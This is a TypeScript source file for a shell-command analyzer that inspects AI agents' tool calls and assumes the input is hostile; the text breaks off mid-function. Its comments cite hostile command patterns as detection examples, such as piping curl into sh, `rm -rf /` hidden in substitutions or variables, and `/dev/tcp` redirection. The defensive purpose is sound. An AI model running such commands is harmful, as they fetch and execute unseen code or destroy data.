// Shell analysis: a command line → the simple commands it will run, each unwrapped from sudo/env/
// timeout-style wrappers and from `sh -c`, `eval`, command substitutions and heredocs fed to
// shells, with `~`, `$HOME`, `$PWD`, earlier assignments and `cd` resolved. It also follows the
// commands other programs run (`ssh host cmd`, `docker exec`, `kubectl exec`, `parallel`, `watch`,
// `xargs`, `find -exec`, `runuser`), reads scripts run or sourced by path (lib/shell/scripts.ts),
// reads interpreter one-liners for the shell commands they start (lib/shell/oneliner.ts), and
// records on each command the code it runs and where that code comes from (`runs`): when a shell
// runs code warden cannot see (`curl … | sh`, `eval "$X"`, a missing script), that is a fact the
// rules judge, not something the analysis guesses about.
//
// Trust model: the input is hostile (an agent or a prompt injection may phrase a command to slip
// past). Anything we cannot resolve is kept as UNKNOWN inside the word rather than guessed, so rules
// can treat it as "could be anything". Depth and total work are bounded; hitting a bound is
// reported in `bounds` and becomes a finding, never a silent allow.
//
// Tokenizing is shell-quote's; lib/shell/scan.ts adds newlines, substitutions and heredocs.

import { parse as shellParse, quote as shellQuote, type ParseEntry } from 'shell-quote';
import path from 'node:path';
import type { TraceStep } from '../types.js';
import { isInterpreter, readInterpreter, type Lang } from './interpreters.js';
import { WRITERS, literalOutput, writtenPaths } from './literal.js';
import { MAX_CODE, oneLinerOf, shellRuns } from './oneliner.js';
import { dockerCommand, kubectlCommand, parallelCommands, runuserCommand, sshCommand, watchCommand, type Inner } from './runners.js';
import { HEREDOC_MARK, QUOTED, SUB_MARK, restoreQuoted, scan } from './scan.js';
import { MAX_SCRIPT, isSystemPath, readScript, shebangProgram } from './scripts.js';
import { UNKNOWN } from './unknown.js';

export { UNKNOWN };
const VAR_MARK = '\u0002';
const SUB_RE = new RegExp(`${SUB_MARK}\\d+${SUB_MARK}`, 'g');
const SUB_INDEX_RE = new RegExp(`${SUB_MARK}(\\d+)${SUB_MARK}`, 'g');
/** A word that is one expansion and nothing else (`$CMD`, `$(…)`). */
const PURE_EXPANSION = new RegExp(`^[${SUB_MARK}${VAR_MARK}][^${SUB_MARK}${VAR_MARK}]*[${SUB_MARK}${VAR_MARK}]$`);
const ONLY_UNKNOWN = new RegExp(`^[\\s${UNKNOWN}]*$`);
const VAR_RE = new RegExp(`${VAR_MARK}([^${VAR_MARK}]*)${VAR_MARK}`, 'g');
/** Every character the analysis uses as a marker. */
const MARKS_RE = new RegExp(`[${UNKNOWN}${SUB_MARK}${VAR_MARK}${HEREDOC_MARK}${Object.values(QUOTED).join('')}]`, 'g');

export const LIMITS = {
  /** Nesting of `sh -c`, `$(…)`, eval, heredocs-to-shell. */
  maxDepth: 12,
  /** Simple commands in one tool call, all levels together. */
  maxCommands: 4000,
  /** Characters analysed; the rest of a longer command is reported as a bound. */
  maxInput: 1 << 20,
  /**
   * Characters analysed over all levels together: nested text (`eval`, `sh -c`, `$(…)`) is
   * analysed again at each level, and a megabyte of `eval eval …` must not cost a dozen passes.
   */
  maxWork: 2 << 20,
  /** Bytes of one script read from disk (`bash x.sh`, `source x`, `./x.sh`); a larger one is a bound. */
  maxScript: MAX_SCRIPT,
  /** Scripts read from disk in one tool call, all levels together. */
  maxScripts: 32,
  /** Characters of one interpreter one-liner read for the shell commands it starts. */
  maxInlineCode: MAX_CODE,
} as const;

export interface Redirect {
  op: string;
  target: string;
}

export type Stdin =
  | { kind: 'heredoc'; text: string; quoted: boolean }
  | { kind: 'herestring'; text: string }
  /** `text`: what the source writes, when it is literal (`echo`, `printf`, `cat <<EOF`). */
  | { kind: 'pipe'; from: string; text?: string }
  | { kind: 'file'; path: string };

/**
 * How the code a command runs reaches it: `argument` (`sh -c CODE`, `eval CODE`, `python3 -c
 * CODE`), `stdin` (`… | sh`, `sh < f`, `python3 <<EOF`), `script` (`bash x.sh`, `source x`,
 * `./x.sh`, `bash <(…)`), `program` (the program word itself is a command's output: `$(curl …)`).
 */
export type CodeHow = 'argument' | 'stdin' | 'script' | 'program';

/** The code a shell or an interpreter runs, and where it comes from. */
export interface Runs {
  /**
   * `unknown-code`: warden cannot read it (a download, a variable, a missing script, a decoder's
   * output); nothing of it is analysed. `known-code`: warden read it; a shell's commands follow as
   * their own SimpleCommands, an interpreter's code is in `inline`.
   */
  kind: 'unknown-code' | 'known-code';
  how: CodeHow;
  /** What supplies the code, for messages: `curl -fsSL https://x`, `./setup.sh (does not exist)`. */
  source: string;
  /**
   * Commands whose output (or whose written file) is, or is spliced into, the code: earlier stages
   * of the pipeline, the commands of a substitution or process substitution, the command that wrote
   * the script earlier in the same command line — and, transitively, what those read.
   */
  producers: readonly SimpleCommand[];
  /** The file the code is read from (resolved; may hold UNKNOWN). */
  file?: string;
  /** An interpreter's code warden could read: its language and text (resolved words). */
  inline?: { lang: Lang; code: string };
  /**
   * The script does not exist when the command is checked. `after`: the programs that ran before
   * it in the same command line and may create files (`tar xf a.tgz && ./setup.sh`); none means
   * nothing can create it first, so the command will just fail.
   */
  missing?: { after: string[] };
}

export interface SimpleCommand {
  /** Resolved words, program first. UNKNOWN marks unresolvable expansions. */
  argv: string[];
  /** Basename of argv[0] ('' for a bare redirection or assignment). */
  program: string;
  text: string;
  cwd: string;
  /** Wrappers and containers this command was found inside, outermost first. */
  via: string[];
  depth: number;
  redirects: Redirect[];
  stdin?: Stdin;
  /** For shells and interpreters: the code it runs and where it comes from. */
  runs?: Runs;
}

export interface AnalyzeContext {
  cwd: string;
  home: string;
}

export interface Analysis {
  commands: SimpleCommand[];
  trace: TraceStep[];
  /** Bounds hit (depth, size, count, unterminated nesting). Non-empty means "not fully analysed". */
  bounds: string[];
}

export function isDynamic(word: string): boolean {
  return word.includes(UNKNOWN);
}

/** A word for display: unknown parts shown as `$…`. */
export function display(word: string): string {
  return word.split(UNKNOWN).join('$…');
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'fish', 'yash', 'posh']);
const DOCKERS = new Set(['docker', 'podman', 'nerdctl', 'docker-compose']);
const KEYWORDS = new Set(['{', '}', '!', 'then', 'do', 'else', 'elif', 'if', 'while', 'until', 'fi', 'done', 'esac']);
const REDIRECT_OPS = new Set(['>', '>>', '<', '>&', '<&', '>|', '&>', '&>>', '<>']);
const SEPARATORS = new Set([';', '&&', '||', '&', ';;', '|', '|&']);

interface State {
  cwd: string;
  vars: Map<string, string>;
  /** Variables whose value came from commands' output (`X=$(curl …)`): those commands. */
  origins: Map<string, SimpleCommand[]>;
}

/** A copy of the state for a subshell or a nested level. */
function fork(state: State, cwd = state.cwd): State {
  return { cwd, vars: new Map(state.vars), origins: new Map(state.origins) };
}

function freshState(cwd: string): State {
  return { cwd, vars: new Map(), origins: new Map() };
}

interface Budget {
  commands: number;
  /** Characters walked so far, all levels. */
  work: number;
  bounds: string[];
  trace: TraceStep[];
  out: SimpleCommand[];
  home: string;
  /** What each command read (its pipeline's previous stage, its substitutions' commands). */
  inputs: Map<SimpleCommand, SimpleCommand[]>;
  /** Files written so far in this command line (absolute): by which command, with what, if literal. */
  written: Map<string, { cmd: SimpleCommand; text?: string }>;
  /** Scripts read from disk so far. */
  scripts: number;
  /** Programs emitted so far that may create files (see MAY_WRITE). */
  writers: string[];
}

/** What one piece of shell source has seen so far, for the `runs` of its commands. */
interface Local {
  /** The commands each substitution of this text ran (all levels), by substitution index. */
  subCmds: SimpleCommand[][];
  /** Each substitution's output, where its commands fix it (`$(echo rm)`, `$(printf … | base64 -d)`). */
  subOut: (string | undefined)[];
  /** See `walk`. */
  origin?: SimpleCommand;
}

/**
 * The output of a substitution whose commands are one literal pipeline (`echo x`, `printf … |
 * base64 -d`), trailing newlines removed as the shell does; else undefined.
 */
function substitutionOutput(cmds: readonly SimpleCommand[], depth: number): string | undefined {
  if (cmds.length === 0 || cmds.length > 8) return undefined;
  for (const [i, c] of cmds.entries()) {
    if (c.depth !== depth || c.redirects.length > 0 || c.runs !== undefined) return undefined;
    if (i > 0 && c.stdin?.kind !== 'pipe') return undefined;
  }
  const out = literalOutput(cmds[cmds.length - 1] as SimpleCommand);
  return out === undefined || isDynamic(out) ? undefined : out.replace(/\n+$/, '');
}

/** What `emit` passes on to `recurse` about where a command's input comes from. */
interface Inputs {
  /** Commands whose output is spliced into this command's words (and redirections, heredocs). */
  words: SimpleCommand[];
  /** The previous stage of the pipeline, when this command reads it. */
  upstream: SimpleCommand | undefined;
  /** Commands whose output the program word itself is (`$(echo rm) -rf /`). */
  program: SimpleCommand[];
}

export function analyze(command: string, ctx: AnalyzeContext): Analysis {
  const budget: Budget = { commands: 0, work: 0, bounds: [], trace: [], out: [], home: ctx.home, inputs: new Map(), written: new Map(), scripts: 0, writers: [] };
  let src = command;
  if (src.length > LIMITS.maxInput) {
    budget.bounds.push(`input longer than ${LIMITS.maxInput} characters`);
    budget.trace.push({ kind: 'bound', what: 'input size', limit: LIMITS.maxInput });
    src = src.slice(0, LIMITS.maxInput);
  }
  // The analysis marks words with control characters (UNKNOWN, substitution, variable, heredoc and
  // quoting stand-ins); the same characters in the input must not pass for them.
  src = src.replace(MARKS_RE, '\uFFFD');
  walk(src, freshState(ctx.cwd), [], 0, budget);
  return { commands: budget.out, trace: budget.trace, bounds: budget.bounds };
}

function bound(b: Budget, what: string, limit: number): void {
  if (!b.bounds.includes(what)) {
    b.bounds.push(what);
    b.trace.push({ kind: 'bound', what, limit });
  }
}

/**
 * Analyse one piece of shell source at a nesting depth, appending simple commands to the budget.
 * `origin`: a command whose computation produced this source (an interpreter's `os.system(x)` with
 * a computed x); its top-level commands count it among what they read.
 */
function walk(src: string, state: State, via: string[], depth: number, b: Budget, origin?: SimpleCommand): void {
  if (depth > LIMITS.maxDepth) {
    bound(b, 'nesting depth', LIMITS.maxDepth);
    return;
  }
  b.work += src.length;
  if (b.work > LIMITS.maxWork) {
    bound(b, 'too much text to analyse', LIMITS.maxWork);
    return;
  }
  const scanned = scan(src);
  if (scanned.overflow) bound(b, 'unterminated or too deeply nested substitution', LIMITS.maxDepth);
  // Command substitutions run first, in the same directory. What each one ran is kept: its output
  // may become code (`sh -c "$(curl …)"`, `bash <(curl …)`).
  const local: Local = { subCmds: [], subOut: [], ...(origin ? { origin } : {}) };
  for (const [k, sub] of scanned.subs.entries()) {
    if (b.commands >= LIMITS.maxCommands) break;
    const kind = scanned.subKinds[k];
    const before = b.out.length;
    walk(sub, fork(state), [...via, kind === 'input' ? '<(…)' : kind === 'output' ? '>(…)' : '$(…)'], depth + 1, b);
    local.subCmds[k] = b.out.slice(before);
    if (kind === 'command') local.subOut[k] = substitutionOutput(local.subCmds[k], depth + 1);
  }
  // Only when some substitution's output is known does resolving need to look them up.
  let known = false;
  for (const o of local.subOut) known ||= o !== undefined;
  if (!known) local.subOut = [];

  let tokens: ParseEntry[];
  try {
    tokens = shellParse(scanned.text, (key: string): string => `${VAR_MARK}${key}${VAR_MARK}`);
  } catch {
    bound(b, 'unparseable shell syntax', 0);
    return;
  }

  const stack: State[] = [];
  /** For each open `(`: the pipe its commands read (`curl … | (cd x && sh)`), if any. */
  const groupPipes: ({ from: Stdin; cmd: SimpleCommand | undefined } | undefined)[] = [];
  let words: string[] = [];
  let redirects: Redirect[] = [];
  let stdin: Stdin | undefined;
  let pipeFrom: Stdin | undefined;
  /** The command whose output `pipeFrom` is. */
  let pipeCmd: SimpleCommand | undefined;
  let pendingRedirect: string | undefined;
  /** Raw redirection targets and heredoc bodies of the current command (for their substitutions). */
  let rawExtra: string[] = [];

  const resolve = (word: string): string => resolveWord(word, state, b.home, local.subOut);

  const flush = (sep: string | undefined): void => {
    const piped = sep === '|' || sep === '|&';
    if (words.length > 0 || redirects.length > 0) {
      const reads = pipeFrom !== undefined && stdin === undefined;
      if (reads) stdin = pipeFrom;
      const last = emit(words, redirects, stdin, state, via, depth, b, local, rawExtra, reads ? pipeCmd : undefined);
      pipeFrom = piped ? pipeSource(last) : undefined;
      pipeCmd = piped ? last : undefined;
    } else if (!piped) {
      pipeFrom = undefined;
      pipeCmd = undefined;
    }
    // Inside `( … )` fed by a pipe, every command shares the group's stdin.
    const group = groupPipes[groupPipes.length - 1];
    if (!piped && group !== undefined) {
      pipeFrom = group.from;
      pipeCmd = group.cmd;
    }
    words = [];
    redirects = [];
    stdin = undefined;
    rawExtra = [];
  };

  for (const tok of tokens) {
    if (b.commands >= LIMITS.maxCommands) {
      bound(b, 'too many commands', LIMITS.maxCommands);
      return;
    }
    if (typeof tok === 'string') {
      if (pendingRedirect !== undefined) {
        const op = pendingRedirect;
        pendingRedirect = undefined;
        if (op === '<<<') {
          stdin = { kind: 'herestring', text: resolve(tok) };
          rawExtra.push(tok);
        } else if (op === '<' && tok.startsWith(HEREDOC_MARK)) {
          const h = scanned.heredocs[Number(tok.slice(1, -1))];
          // Substitutions in an unquoted body were cut out (and analysed) by scan: unknown output.
          if (h) stdin = { kind: 'heredoc', text: h.body.replace(SUB_RE, UNKNOWN), quoted: h.quoted };
          if (h) rawExtra.push(h.body);
        } else {
          rawExtra.push(tok);
          const target = resolve(tok);
          if (op === '<') stdin = { kind: 'file', path: target };
          // `<&3`: stdin is whatever fd 3 was opened on (`exec 3</dev/tcp/…`), unknown here.
          if (op === '<&' && /^[1-9]\d*$/.test(target)) stdin = { kind: 'file', path: UNKNOWN };
          redirects.push({ op, target });
        }
        continue;
      }
      words.push(tok);
      continue;
    }
    if ('comment' in tok) continue;
    if ('pattern' in tok && tok.op === 'glob') {
      if (pendingRedirect !== undefined) {
        redirects.push({ op: pendingRedirect, target: resolve(tok.pattern) });
        pendingRedirect = undefined;
      } else {
        words.push(tok.pattern);
      }
      continue;
    }
    const op: string = tok.op;
    if (REDIRECT_OPS.has(op) || op === '<<<') {
      // shell-quote splits `2>&1` into "2", ">&", "1": a bare fd number before a redirect is not an argument.
      const prev = words[words.length - 1];
      if (prev !== undefined && /^\d$/.test(prev) && words.length > 1) words.pop();
      pendingRedirect = op;
      continue;
    }
    if (SEPARATORS.has(op)) {
      flush(op);
      continue;
    }
    if (op === '(') {
      // `curl … | (cd x && sh)`: the subshell's first command still reads the pipe.
      if (words.length > 0 || redirects.length > 0) flush(undefined);
      groupPipes.push(pipeFrom === undefined ? undefined : { from: pipeFrom, cmd: pipeCmd });
      stack.push(fork(state));
      continue;
    }
    if (op === ')') {
      flush(undefined);
      groupPipes.pop();
      pipeFrom = undefined;
      pipeCmd = undefined;
      const saved = stack.pop();
      if (saved) {
        state.cwd = saved.cwd;
        state.vars = saved.vars;
        state.origins = saved.origins;
      }
      continue;
    }
    // Any other operator (`<(` cannot occur: scan cut them out) separates commands.
    flush(undefined);
  }
  flush(undefined);
}

/**
 * Resolves variable markers, substitution markers and a leading `~`. `subOut`: the literal output
 * of this text's substitutions, where known (`$(echo rm)`); an output with blanks or glob
 * characters would be split or expanded by the shell, so it stays unknown unless `split` says the
 * caller splits the word itself.
 */
function resolveWord(word: string, state: State, home: string, outputs?: readonly (string | undefined)[], split = false): string {
  const subOut = outputs !== undefined && outputs.length > 0 ? outputs : undefined;
  let w = restoreQuoted(word);
  // An earlier `HOME=…` or `PWD=…` in the same command line wins, as in the shell.
  const homeNow = state.vars.get('HOME') ?? home;
  const pwdNow = state.vars.get('PWD') ?? state.cwd;
  if (w === '~' || w.startsWith('~/')) w = homeNow + w.slice(1);
  else if (w.startsWith('~')) {
    // `~+` is $PWD; `~user` and `~-` (OLDPWD) are someone's home or an earlier directory: unknown.
    const slash = w.indexOf('/');
    const head = slash === -1 ? w : w.slice(0, slash);
    const rest = slash === -1 ? '' : w.slice(slash);
    if (head === '~+') w = pwdNow + rest;
    else if (/^~[A-Za-z0-9._-]*$/.test(head)) w = UNKNOWN + rest;
  }
  if (w.includes(SUB_MARK) && subOut === undefined) w = w.replace(SUB_RE, UNKNOWN);
  else if (w.includes(SUB_MARK)) {
    w = w.replace(SUB_INDEX_RE, (_m, k: string) => {
      const o = subOut?.[Number(k)];
      return o !== undefined && (split || !/[\s*?[\]]/.test(o)) ? o : UNKNOWN;
    });
  }
  if (w.includes(VAR_MARK)) {
    w = w.replace(VAR_RE, (_m, key: string) => {
      const name = /^[A-Za-z_][A-Za-z0-9_]*/.exec(key)?.[0];
      if (key === '') return ''; // `$"…"` (a locale string) or a lone `$`
      if (name === undefined || name !== key) return UNKNOWN; // ${X:-y}, $1, $@ …: not resolved
      if (name === 'HOME') return homeNow;
      if (name === 'PWD') return pwdNow;
      return state.vars.get(name) ?? UNKNOWN;
    });
  }
  return w;
}

const ASSIGN = /^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s;

/** Words one command may grow to through brace expansion, and the longest word expanded. */
const MAX_BRACE_WORDS = 1024;
const MAX_BRACE_LENGTH = 4096;

/**
 * Brace expansion, which bash does before any other: `~/{a,.}` → `~/a ~/.`, `{rm,-rf,/}` →
 * `rm -rf /`, `x{1..3}`. Quoted and escaped braces and commas were marked by scan and stay. A word that would grow past MAX_BRACE_WORDS, or is longer
 * than MAX_BRACE_LENGTH, stands for words not enumerated here: it is unknown.
 */
function expandBraces(words: string[]): string[] {
  const out: string[] = [];
  for (const w of words) {
    if (!w.includes('{')) out.push(w);
    else out.push(...((w.length <= MAX_BRACE_LENGTH ? braceWord(w, MAX_BRACE_WORDS - out.length) : undefined) ?? [UNKNOWN]));
  }
  return out;
}

/** One word's brace expansion, or undefined if it would exceed `room` words. */
function braceWord(w: string, room: number): string[] | undefined {
  if (room <= 0) return undefined;
  // One pass pairs the braces; the first pair (by its `{`) holding a top-level comma or a `..`
  // sequence is expanded, and the results expanded again for the pairs after it.
  const stack: { open: number; commas: number[] }[] = [];
  let pick: { open: number; close: number; parts: string[] } | undefined;
  for (let j = 0; j < w.length; j++) {
    const c = w[j];
    if (c === '\\') j++;
    else if (c === '{') stack.push({ open: j, commas: [] });
    else if (c === ',') stack[stack.length - 1]?.commas.push(j);
    else if (c === '}') {
      const top = stack.pop();
      if (top === undefined || (pick !== undefined && pick.open < top.open)) continue;
      let parts: string[] | undefined | null;
      if (top.commas.length > 0) {
        parts = [];
        let from = top.open + 1;
        for (const k of [...top.commas, j]) {
          parts.push(w.slice(from, k));
          from = k + 1;
        }
      } else {
        parts = braceSequence(w.slice(top.open + 1, j), room);
        if (parts === null) return undefined;
      }
      if (parts !== undefined) pick = { open: top.open, close: j, parts };
    }
  }
  if (pick === undefined) return [w];
  const head = w.slice(0, pick.open);
  const tail = w.slice(pick.close + 1);
  const out: string[] = [];
  for (const part of pick.parts) {
    const more = braceWord(`${head}${part}${tail}`, room - out.length);
    if (more === undefined) return undefined;
    out.push(...more);
  }
  return out;
}

/** `{1..5}`, `{a..e}`, `{0..10..2}`: the items; undefined if not a sequence; null if too long. */
function braceSequence(inner: string, room: number): string[] | undefined | null {
  const m = /^(-?\d+|[A-Za-z])\.\.(-?\d+|[A-Za-z])(?:\.\.(-?\d+))?$/.exec(inner);
  if (!m) return undefined;
  const [, from = '', to = '', stepText] = m;
  const numeric = /\d/.test(from) && /\d/.test(to);
  if (!numeric && (/\d/.test(from) || /\d/.test(to))) return undefined;
  const a = numeric ? Number(from) : from.charCodeAt(0);
  const z = numeric ? Number(to) : to.charCodeAt(0);
  const step = Math.abs(Number(stepText ?? 1)) || 1;
  if (Math.abs(z - a) / step + 1 > room) return null;
  const out: string[] = [];
  for (let v = a; a <= z ? v <= z : v >= z; v += a <= z ? step : -step) out.push(numeric ? String(v) : String.fromCharCode(v));
  return out;
}

/** Offsets of each `MARK…MARK` pair in a word. */
function markerSpans(w: string, mark: string): [number, number][] {
  const spans: [number, number][] = [];
  let i = w.indexOf(mark);
  while (i !== -1) {
    const j = w.indexOf(mark, i + 1);
    if (j === -1) break;
    spans.push([i, j]);
    i = w.indexOf(mark, j + 1);
  }
  return spans;
}

/** The commands whose output ends up in these raw words: their substitutions, and variables set from some. */
function wordProducers(words: readonly string[], state: State, local: Local): SimpleCommand[] {
  const out: SimpleCommand[] = [];
  if (local.subCmds.length === 0 && state.origins.size === 0) return out;
  for (const w of words) {
    for (const [open, close] of markerSpans(w, SUB_MARK)) out.push(...(local.subCmds[Number(w.slice(open + 1, close))] ?? []));
    if (state.origins.size > 0) for (const [open, close] of markerSpans(w, VAR_MARK)) out.push(...(state.origins.get(w.slice(open + 1, close)) ?? []));
  }
  return out;
}

/**
 * Builds one simple command (after unwrapping) and recurses into what it runs. Returns it.
 * `rawExtra`: its raw redirection targets and heredoc bodies; `upstream`: the pipeline stage it reads.
 */
function emit(
  rawWords: string[],
  redirects: Redirect[],
  stdin: Stdin | undefined,
  state: State,
  via: string[],
  depth: number,
  b: Budget,
  local: Local,
  rawExtra: readonly string[],
  upstream: SimpleCommand | undefined,
): SimpleCommand | undefined {
  let words = rawWords;
  while (words.length > 0 && KEYWORDS.has(words[0] as string)) words = words.slice(1);
  // Leading assignments: persist for later commands only when nothing else is on the line.
  let i = 0;
  const prefix: [string, string, string][] = [];
  while (i < words.length) {
    const m = ASSIGN.exec(words[i] as string);
    if (!m) break;
    prefix.push([m[1] as string, resolveWord(m[2] as string, state, b.home, local.subOut), m[2] as string]);
    i++;
  }
  words = words.slice(i);
  if (words.length === 0) {
    for (const [k, v, raw] of prefix) {
      state.vars.set(k, v);
      const from = wordProducers([raw], state, local);
      if (from.length > 0) state.origins.set(k, from);
      else state.origins.delete(k);
    }
    if (redirects.length > 0) record(b, { argv: [], program: '', text: redirectText(redirects), cwd: state.cwd, via, depth, redirects, ...(stdin ? { stdin } : {}) });
    return undefined;
  }
  const shellCwd = state.cwd;
  const chain = [...via];
  const resolved = expandBraces(words).map((w, k) => resolveWord(w, state, b.home, local.subOut, k === 0));
  // `CMD="rm -rf /"; $CMD`, `$(echo rm -rf /)`: an unquoted expansion in the program's place is
  // split into words. (Quoted, it would name one program with blanks in its name, which cannot run:
  // splitting it only costs a false alarm.)
  const head = resolved[0] as string;
  if (PURE_EXPANSION.test(words[0] as string) && /\s/.test(head.trim())) resolved.splice(0, 1, ...head.trim().split(/\s+/));
  else if (/\s/.test(head) && (words[0] as string).includes(SUB_MARK)) resolved[0] = resolveWord(words[0] as string, state, b.home, local.subOut);
  const { argv, cwd } = unwrap(resolved, state.cwd, chain, b, depth);
  const program = programName(argv[0] ?? '');
  const cmd: SimpleCommand = {
    argv,
    program,
    text: commandText(argv, redirects),
    cwd,
    via: chain,
    depth,
    redirects,
    ...(stdin ? { stdin } : {}),
  };
  const fromWords = local.subCmds.length === 0 && state.origins.size === 0 ? [] : wordProducers(words, state, local);
  if (rawExtra.length > 0) fromWords.push(...wordProducers(rawExtra, state, local));
  // `curl … | xargs sh -c`: xargs puts what it reads into the words.
  if (upstream !== undefined && chain.slice(via.length).includes('xargs')) fromWords.push(upstream);
  if (local.origin !== undefined) fromWords.push(local.origin);
  const inputs = upstream === undefined ? fromWords : [upstream, ...fromWords];
  if (inputs.length > 0) b.inputs.set(cmd, inputs);
  record(b, cmd);
  afterCommand(cmd, state, b);
  const programFrom = (words[0] as string).includes(SUB_MARK) || (words[0] as string).includes(VAR_MARK) ? wordProducers([words[0] as string], state, local) : NONE;
  recurse(cmd, state, b, { words: fromWords, upstream, program: programFrom });
  // `GIT_SSH_COMMAND='…' git fetch`, `env PAGER='…' man x`: variables programs run as shell commands.
  const wrapped = resolved.length - argv.length;
  if (prefix.length > 0 || wrapped > 0) {
    const assigned: [string, string][] = prefix.map(([k, v]) => [k, v]);
    for (let k = 0; k < wrapped; k++) {
      const m = ASSIGN.exec(resolved[k] as string);
      if (m) assigned.push([m[1] as string, m[2] as string]);
    }
    for (const [k, v] of assigned) {
      if (!COMMAND_VARS.has(k) || v.trim() === '') continue;
      b.trace.push({ kind: 'unwrap', depth: depth + 1, wrapper: k, text: clip(v) });
      walk(v, fork(state, cwd), [...chain, k], depth + 1, b);
    }
  }
  if (redirects.length > 0 || WRITERS.has(cmd.program)) {
    for (const w of writtenPaths(cmd, shellCwd)) b.written.set(w.path, { cmd, ...(w.text !== undefined ? { text: w.text } : {}) });
  }
  if (!READ_ONLY.has(cmd.program) || redirects.some((r) => r.op.includes('>'))) b.writers.push(cmd.program);
  return cmd;
}

/** Programs that create no files (without a redirection): a missing script cannot appear after them. */
const READ_ONLY = new Set([
  'cd', 'pushd', 'popd', 'set', 'export', 'unset', 'true', 'false', ':', 'shopt', 'test', '[', '[[', 'echo', 'printf', 'pwd', 'ls', 'cat', 'grep', 'egrep', 'fgrep', 'rg',
  'which', 'type', 'command', 'hash', 'alias', 'sleep', 'date', 'whoami', 'id', 'uname', 'env', 'printenv', 'read', 'wait', 'jobs', 'exit', 'return', 'source', '.', 'chmod',
  'head', 'tail', 'wc', 'sort', 'uniq', 'less', 'more', 'file', 'stat', 'local', 'declare', 'typeset', 'readonly', 'umask', 'ulimit', 'trap', 'nvm', 'deactivate',
]);

/** Environment variables whose value a program runs as a shell command. */
const COMMAND_VARS = new Set([
  'GIT_SSH_COMMAND', 'GIT_EDITOR', 'GIT_SEQUENCE_EDITOR', 'GIT_PAGER', 'GIT_EXTERNAL_DIFF', 'GIT_PROXY_COMMAND', 'GIT_ASKPASS', 'SSH_ASKPASS', 'SUDO_ASKPASS',
  'EDITOR', 'VISUAL', 'PAGER', 'MANPAGER', 'LESSOPEN', 'LESSCLOSE', 'PROMPT_COMMAND', 'FZF_DEFAULT_COMMAND', 'RSYNC_RSH', 'CVS_RSH',
]);

/** Stdin of the next stage of a pipeline: what `cmd` writes, when its output is literal text. */
function pipeSource(cmd: SimpleCommand | undefined): Stdin {
  if (cmd === undefined) return { kind: 'pipe', from: '' };
  const text = literalOutput(cmd);
  return text === undefined ? { kind: 'pipe', from: cmd.program } : { kind: 'pipe', from: cmd.program, text };
}

function record(b: Budget, cmd: SimpleCommand): void {
  b.commands++;
  b.out.push(cmd);
  b.trace.push({ kind: 'command', depth: cmd.depth, text: cmd.text, program: cmd.program, argv: cmd.argv.map(display), via: cmd.via, cwd: display(cmd.cwd) });
}

/**
 * The program's name as rules know it: the basename, lower-cased and without `.exe` (macOS and
 * Windows file systems ignore case, so `RM` runs rm; Git Bash and WSL run `git.exe`).
 */
export function programName(word: string): string {
  if (isDynamic(word)) return word === UNKNOWN ? UNKNOWN : path.posix.basename(word);
  const base = word.includes('/') ? path.posix.basename(word) : word;
  return /[A-Z]/.test(base) || /\.exe$/i.test(base) ? base.toLowerCase().replace(/\.exe$/, '') : base;
}

function commandText(argv: string[], redirects: Redirect[]): string {
  const parts = [shellQuote(argv.map(display))];
  if (redirects.length > 0) parts.push(redirectText(redirects));
  return parts.join(' ');
}

function redirectText(redirects: Redirect[]): string {
  return redirects.map((r) => `${r.op} ${display(r.target)}`).join(' ');
}

/** Side effects on the analysis state: `cd`, `export X=…`. */
function afterCommand(cmd: SimpleCommand, state: State, b: Budget): void {
  const [prog, ...args] = cmd.argv;
  if (prog === 'cd' || prog === 'pushd') {
    const target = args.find((a) => !a.startsWith('-') || a === '-');
    if (target === undefined) state.cwd = state.vars.get('HOME') ?? b.home;
    else if (target === '-' || isDynamic(target) || (isDynamic(state.cwd) && !target.startsWith('/'))) state.cwd = UNKNOWN;
    else state.cwd = path.posix.resolve(state.cwd, target);
    state.vars.delete('PWD'); // cd sets $PWD to the new directory
  } else if (prog === 'export' || prog === 'declare' || prog === 'local' || prog === 'readonly' || prog === 'typeset') {
    for (const a of args) {
      const m = ASSIGN.exec(a);
      if (m) state.vars.set(m[1] as string, m[2] as string);
    }
  }
}

const clip = (src: string): string => (src.length > 200 ? `${src.slice(0, 200)}…` : src);

/** Code that is nothing but unknown parts (`"$X"`, `"$(curl …)"`): warden cannot see any of it. */
function wholeUnknown(code: string): boolean {
  return code.includes(UNKNOWN) && ONLY_UNKNOWN.test(code);
}

/** `producers` in the order they ran, with what they read, transitively (bounded by maxCommands). */
function producersOf(direct: readonly SimpleCommand[], b: Budget): SimpleCommand[] {
  const seen = new Set<SimpleCommand>();
  const queue = [...direct];
  for (let i = 0; i < queue.length && seen.size < LIMITS.maxCommands; i++) {
    const c = queue[i] as SimpleCommand;
    if (seen.has(c)) continue;
    seen.add(c);
    queue.push(...(b.inputs.get(c) ?? []));
  }
  if (seen.size < 2) return [...seen];
  const pos = new Map(b.out.map((c, i) => [c, i]));
  return [...seen].sort((x, y) => (pos.get(x) ?? 0) - (pos.get(y) ?? 0));
}

/** Records on `cmd` the code it runs; unknown code is also a trace step, so `explain` shows it. */
function setRuns(
  cmd: SimpleCommand,
  b: Budget,
  r: { kind: Runs['kind']; how: CodeHow; source?: string; file?: string; inline?: Runs['inline']; missing?: Runs['missing'] },
  direct: readonly SimpleCommand[],
): void {
  const producers = producersOf(direct, b);
  const made = producers.map((p) => p.text).join(' | ');
  const source = r.source ?? (made !== '' ? clip(made) : '?');
  cmd.runs = { kind: r.kind, how: r.how, source, producers, ...(r.file !== undefined ? { file: r.file } : {}), ...(r.inline ? { inline: r.inline } : {}), ...(r.missing ? { missing: r.missing } : {}) };
  if (r.kind === 'unknown-code') b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: display(cmd.program), text: `runs code warden cannot read (${r.how}): ${display(source)}` });
}

/** Programs `recurse` looks into, besides shells, interpreters, paths and unknown names. */
const RUNNERS = new Set(['eval', 'source', '.', 'trap', 'alias', 'su', 'runuser', 'find', 'ssh', 'kubectl', 'oc', 'watch', 'parallel', ...DOCKERS]);
const NONE: SimpleCommand[] = [];

/** Commands that run other commands: shells, eval, source, interpreters, remote and container runners, scripts. */
function recurse(cmd: SimpleCommand, state: State, b: Budget, from: Inputs): void {
  const prog = cmd.argv[0];
  if (prog === undefined) return;
  const name = cmd.program;
  // Most commands run nothing else: leave before building anything.
  if (!SHELLS.has(name) && !RUNNERS.has(name) && !prog.includes('/') && !isDynamic(prog) && from.program.length === 0 && !isInterpreter(name)) return;
